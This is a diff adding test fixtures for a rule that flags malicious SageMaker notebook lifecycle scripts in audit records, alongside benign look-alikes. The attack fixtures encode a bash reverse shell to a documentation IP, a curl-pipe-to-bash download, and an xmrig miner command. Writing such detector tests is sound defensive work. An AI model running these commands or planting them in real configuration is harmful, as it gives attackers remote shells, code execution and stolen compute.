@@ -1,0 +1,40 @@
+// Records for this rule: attacks it flags, benign look-alikes it leaves alone (test/unit/classify/rule-fixtures.test.ts).
+import { b64, rec, type RuleFixtures } from '../fixture-kit.js';
+
+/** A lifecycle configuration request with these (already base64) OnStart and OnCreate scripts. */
+export const lifecycleConfig = (onStart: string[], onCreate: string[] = [], name = 'CreateNotebookInstanceLifecycleConfig') =>
+  rec(name, {
+    notebookInstanceLifecycleConfigName: 'lcc-1',
+    onCreate: onCreate.map((c) => ({ content: c })),
+    onStart: onStart.map((c) => ({ content: c })),
+  });
+
+export const reverseShellOnStart = lifecycleConfig([b64('#!/bin/bash\nset -e\n  bash -i >& /dev/tcp/198.51.100.7/4444 0>&1  \n')]);
+/** OnStart downloads and runs a script; OnCreate is redacted in the trail (not base64). */
+export const pipedDownloadBesideRedacted = lifecycleConfig([b64('curl http://198.51.100.7/m | bash')], ['HIDDEN_DUE_TO_SECURITY_REASONS!']);
+
+/** An ordinary set-up script: installs packages, fetches a file without running it, names a reverse shell only in a comment. */
+const BENIGN_SCRIPT = [
+  '#!/bin/bash',
+  'set -e',
+  'sudo -u ec2-user -i <<EOF',
+  'source /home/ec2-user/anaconda3/bin/activate python3',
+  'pip install --upgrade pandas scikit-learn==1.5.2',
+  'curl -o /tmp/requirements.txt https://example.com/requirements.txt',
+  '# bash -i >& /dev/tcp/ in a comment is ignored',
+  'EOF',
+].join('\n');
+export const benignSetupScript = lifecycleConfig([b64(BENIGN_SCRIPT)], [b64(BENIGN_SCRIPT)], 'UpdateNotebookInstanceLifecycleConfig');
+export const undecodableOnly = lifecycleConfig([], ['not base64 at all']);
+
+export default {
+  attack: [
+    { name: 'a reverse shell in OnStart', records: [reverseShellOnStart] },
+    { name: 'download and execute in OnStart, OnCreate redacted', records: [pipedDownloadBesideRedacted] },
+    { name: 'a miner in OnCreate', records: [lifecycleConfig([], [b64('#!/bin/bash\nnohup ./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 4A... &\n')])] },
+  ],
+  nearMiss: [
+    { name: 'a set-up script installing packages and fetching a file without running it', records: [benignSetupScript] },
+    { name: 'content that is not base64', records: [undecodableOnly] },
+  ],
+} satisfies RuleFixtures;
